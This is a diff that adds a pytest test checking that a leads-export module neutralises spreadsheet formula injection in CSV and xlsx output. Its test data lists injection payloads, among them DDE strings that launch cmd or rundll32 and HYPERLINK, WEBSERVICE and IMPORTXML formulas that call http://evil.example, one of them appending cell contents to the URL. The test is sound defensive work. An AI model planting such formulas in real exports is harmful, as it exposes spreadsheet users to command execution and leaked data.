@@ -8,6 +8,7 @@ import random
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from leads.sheets import Sheet, csv_rows, from_text, guarded, read, read_in_child, unguarded, xlsx_file
 from leads.sheets.guard import DANGEROUS
@@ -68,6 +69,34 @@ def test_it_guards_what_would_run(begins: str) -> None:
 @pytest.mark.parametrize("text", ["", "'", "'a", "O'Neill", "a=b", " =1", "3-4"])
 def test_it_leaves_other_text_as_it_is(text: str) -> None:
     assert (guarded(text), unguarded(text)) == (text, text)
+
+
+RUNNING = [
+    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1)",
+    "WEBSERVICE(\"http://evil.example\")", "IMPORTXML(\"http://evil.example\",\"//a\")",
+    "DDE(\"cmd\",\"/C calc\",\"x\")", "@SUM(1)", "rundll32|'x'!A0", "A1", "", "49 170 1234567", "\t=1", "'=1", "''",
+    "\"=1\"", ";=1", ",=1", " =1", "\n=1",
+]  # fmt: skip
+
+
+def test_no_spreadsheet_program_finds_a_formula_in_what_it_wrote(tmp_path: Path) -> None:
+    """Every beginning before every formula, as CSV and as a workbook; and each comes back as it was."""
+    rows = [[f"{begins}{rest}", str(number)] for begins in DANGEROUS for number, rest in enumerate(RUNNING)]
+    assert len(rows) >= 200
+    for kind in ("csv", "xlsx"):
+        path = tmp_path / f"leads.{kind}"
+        with path.open("wb") as file:
+            if kind == "csv":
+                file.writelines(csv_rows(["A", "B"], rows))
+            else:
+                xlsx_file(["A", "B"], rows, file)
+        assert [row[0] for row in read(path, name=path.name).rows] == [row[0] for row in rows], kind
+    cells = [
+        row[0] for row in csv.reader(io.StringIO((tmp_path / "leads.csv").read_bytes().decode("utf-8-sig"), newline=""))
+    ]
+    assert [cell for cell in cells[1:] if not cell.startswith("'")] == []
+    sheet = load_workbook(tmp_path / "leads.xlsx").active
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
 
 
 def test_it_writes_csv_as_the_standard_says() -> None:
